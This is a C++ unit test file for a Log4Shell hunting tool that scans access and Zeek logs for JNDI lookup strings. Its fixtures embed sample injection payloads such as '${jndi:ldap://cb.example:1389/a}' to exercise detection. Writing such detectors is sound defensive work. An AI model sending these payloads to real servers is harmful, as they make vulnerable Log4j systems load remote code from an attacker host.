#include "hunt/hunt_file.h"

#include <fcntl.h>
#include <unistd.h>
#include <zlib.h>

#include <gtest/gtest.h>

#include <string>

namespace l4s::hunt {
namespace {

FileHunt hunt_data(const std::string& data, const HuntOptions& options = {}) {
  char path[] = "/tmp/l4s_hunt_file_test_XXXXXX";
  int fd = mkstemp(path);
  EXPECT_GE(fd, 0);
  EXPECT_EQ(write(fd, data.data(), data.size()), static_cast<ssize_t>(data.size()));
  close(fd);
  FileHunt h = hunt_path(path, options);
  unlink(path);
  return h;
}

TEST(HuntFile, DetectionsCarryLineOffsetAndLogFields) {
  std::string a = "192.0.2.1 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"curl\"\n";
  std::string b =
      "198.51.100.7 - - [10/Dec/2021:10:00:01 +0000] \"GET /?x=${jndi:ldap://cb.example:1389/a} HTTP/1.1\" 200 1 "
      "\"-\" \"curl\" \"203.0.113.9\"\n";
  FileHunt h = hunt_data(a + a + b + a);
  ASSERT_TRUE(h.status.ok()) << h.status.error();
  EXPECT_EQ(h.lines, 4u);
  ASSERT_EQ(h.detections.size(), 1u);
  const Detection& d = h.detections[0];
  EXPECT_EQ(d.line, 3u);
  EXPECT_EQ(d.offset, 2 * a.size());
  EXPECT_EQ(d.source_ip, "198.51.100.7");
  EXPECT_EQ(d.forwarded_for, "203.0.113.9");
  EXPECT_EQ(d.timestamp, "2021-12-10T10:00:01Z");
  ASSERT_EQ(d.jndi.size(), 1u);
  EXPECT_EQ(d.jndi[0].host, "cb.example");
  EXPECT_EQ(d.jndi[0].port, 1389);
}

TEST(HuntFile, ZeekHeaderGivesColumns) {
  std::string data =
      "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tmsg\n"
      "1639200000.5\tC1\t45.137.21.9\tua='${jndi:ldap://45.137.21.9:1389/a}'\n";
  FileHunt h = hunt_data(data);
  ASSERT_EQ(h.detections.size(), 1u);
  EXPECT_EQ(h.detections[0].source_ip, "45.137.21.9");
  EXPECT_EQ(h.detections[0].timestamp, "2021-12-11T05:20:00.5Z");
}

TEST(HuntFile, OverLongLinesKeepTheirLineNumber) {
  HuntOptions small;
  small.read.block_size = 4096;
  small.read.max_line = 8192;
  std::string data = "a\n" + std::string(50000, 'x') + " ${jndi:ldap://long.example/a}\nb ${jndi:ldap://next.example/a}\nc";
  FileHunt h = hunt_data(data, small);
  ASSERT_TRUE(h.status.ok());
  EXPECT_EQ(h.lines, 4u);
  ASSERT_EQ(h.detections.size(), 2u);
  EXPECT_EQ(h.detections[0].line, 2u);
  EXPECT_EQ(h.detections[0].jndi[0].host, "long.example");
  EXPECT_EQ(h.detections[1].line, 3u);
  EXPECT_EQ(h.detections[1].offset, data.find("b ${"));
}

TEST(HuntFile, UnreadableIsAnError) {
  FileHunt h = hunt_path("/nonexistent/l4s/log");
  EXPECT_FALSE(h.status.ok());
  EXPECT_NE(h.status.error().find("No such file"), std::string::npos) << h.status.error();
  FileHunt dir = hunt_path("/tmp");
  EXPECT_FALSE(dir.status.ok());
}

}  // namespace
}  // namespace l4s::hunt
